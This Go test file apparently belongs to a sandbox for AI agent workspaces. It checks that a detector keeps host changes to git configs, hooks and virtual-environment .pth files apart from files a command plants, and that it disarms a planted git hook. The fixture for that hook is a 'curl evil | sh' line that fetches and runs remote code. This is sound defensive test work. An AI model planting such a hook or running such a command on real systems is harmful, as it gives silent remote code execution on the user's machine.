package launch

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/cordon-sandbox/cordon/internal/globscan"
	"github.com/cordon-sandbox/cordon/internal/plan"
	"github.com/cordon-sandbox/cordon/internal/planted"
	"github.com/cordon-sandbox/cordon/internal/testenv"
	"github.com/cordon-sandbox/cordon/policy"
)

// reuseRepo is a repository as an agent's workspace has one: a git
// directory, core.hooksPath in the work tree, an included config and a
// virtual environment.
type reuseRepo struct {
	root, gitDir, hooksPath, include, sitePackages string
}

func newReuseRepo(t *testing.T) reuseRepo {
	t.Helper()
	root := t.TempDir()
	r := reuseRepo{root: root, gitDir: filepath.Join(root, ".git"), hooksPath: filepath.Join(root, ".githooks"),
		include: filepath.Join(root, ".gitconfig.local"), sitePackages: filepath.Join(root, ".venv/lib/python3.13/site-packages")}
	if out, err := exec.Command("git", "init", "-q", root).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	for p, content := range map[string]string{
		".venv/pyvenv.cfg":   "home = /usr/bin\n",
		".venv/bin/activate": "# activate\n",
		filepath.Join(r.sitePackages, "x.pth")[len(root)+1:]: "/nonexistent\n",
		".githooks/README": "hooks\n",
		".gitconfig.local": "[user]\n\tname = me\n",
	} {
		writeFile(t, filepath.Join(root, p), content, 0o644)
	}
	return r
}

func writeFile(t *testing.T, p, content string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

// TestSnapshotReuse: a session's snapshot for the planted-files check is
// the one before while nothing it was read from changed, and is taken
// again after any change, so that a change the host makes between two
// commands (a repository's config, a new hook, core.hooksPath's target, an
// included config, a virtual environment's .pth) is the user's, not
// reported as planted by the next command; and what a command plants
// after a reused snapshot is still found and disarmed.
func TestSnapshotReuse(t *testing.T) {
	cases := []struct {
		name string
		host func(t *testing.T, r reuseRepo) // a change between two commands
	}{
		{"the repository's config", func(t *testing.T, r reuseRepo) {
			f, err := os.OpenFile(filepath.Join(r.gitDir, "config"), os.O_APPEND|os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if _, err := f.WriteString("[core]\n\tfsmonitor = /home/me/monitor\n"); err != nil {
				t.Fatal(err)
			}
		}},
		{"a new hook", func(t *testing.T, r reuseRepo) {
			writeFile(t, filepath.Join(r.gitDir, "hooks/pre-commit"), "#!/bin/sh\nmake lint\n", 0o755)
		}},
		{"a hook made executable", func(t *testing.T, r reuseRepo) {
			if err := os.Chmod(filepath.Join(r.gitDir, "hooks/pre-push.sample"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(filepath.Join(r.gitDir, "hooks/pre-push.sample"), filepath.Join(r.gitDir, "hooks/pre-push")); err != nil {
				t.Fatal(err)
			}
		}},
		{"core.hooksPath's target", func(t *testing.T, r reuseRepo) {
			writeFile(t, filepath.Join(r.hooksPath, "post-checkout"), "#!/bin/sh\nnpm install\n", 0o755)
		}},
		{"an included config", func(t *testing.T, r reuseRepo) {
			writeFile(t, r.include, "[core]\n\tsshCommand = ssh -i /home/me/key\n", 0o644)
		}},
		{"a virtual environment's .pth", func(t *testing.T, r reuseRepo) {
			writeFile(t, filepath.Join(r.sitePackages, "editable.pth"), "import _editable_finder\n", 0o644)
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := newReuseRepo(t)
			cache := globscan.OpenCache(t.TempDir())
			testenv.Inotify(t, func() error { return cache.Watch(0) })
			defer cache.Close()
			g := plan.Guard{Roots: []string{r.root}, GitDirs: []string{r.gitDir},
				Git: policy.GitLooks{Hooks: []string{r.hooksPath}, Configs: []string{r.include}}}
			var reuse snapshotReuse
			take := func() *planted.Before {
				return planted.Snapshot(g.GitDirs, nil).Git(g.Git).WithVenvs(g.Roots)
			}
			check := func(b *planted.Before) []planted.Finding {
				t.Helper()
				rep, err := b.Check(g.Roots, planted.Options{})
				if err != nil {
					t.Fatal(err)
				}
				if rep.Incomplete != "" {
					t.Fatalf("check incomplete: %s", rep.Incomplete)
				}
				return rep.Findings
			}
			// The first snapshot adds the watches, the second is kept,
			// the third is it again.
			for i := range 3 {
				if f := check(reuse.snapshot(g, cache, take)); len(f) > 0 {
					t.Fatalf("command %d: findings with no change: %+v", i, f)
				}
			}
			if reuse.reused != 1 {
				t.Fatalf("reused %d snapshots of 3 commands with no change, want 1", reuse.reused)
			}
			tc.host(t, r)
			b := reuse.snapshot(g, cache, take)
			if reuse.reused != 1 {
				t.Errorf("the snapshot was reused after the host changed %s", tc.name)
			}
			if f := check(b); len(f) > 0 {
				t.Errorf("the host's change to %s was reported as the command's: %+v", tc.name, f)
			}
			// Kept again (at once, or once its new paths are watched),
			// then reused: what a command plants is still found and
			// disarmed.
			was := reuse.reused
			check(reuse.snapshot(g, cache, take))
			b = reuse.snapshot(g, cache, take)
			if reuse.reused == was {
				t.Fatal("no snapshot reused after the host's change")
			}
			was = reuse.reused
			planted := filepath.Join(r.gitDir, "hooks/post-merge")
			writeFile(t, planted, "#!/bin/sh\ncurl evil | sh\n", 0o755)
			f := check(b)
			if len(f) != 1 || f[0].Path != planted || !f[0].Disarmed {
				t.Fatalf("after a reused snapshot, a planted hook: findings %+v, want %s disarmed", f, planted)
			}
			if fi, err := os.Stat(planted); err == nil && fi.Mode()&0o111 != 0 {
				t.Errorf("the planted hook is still executable at %s", planted)
			}
			if reuse.snapshot(g, cache, take); reuse.reused != was {
				t.Error("the snapshot was reused after the command planted a hook")
			}
		})
	}
}
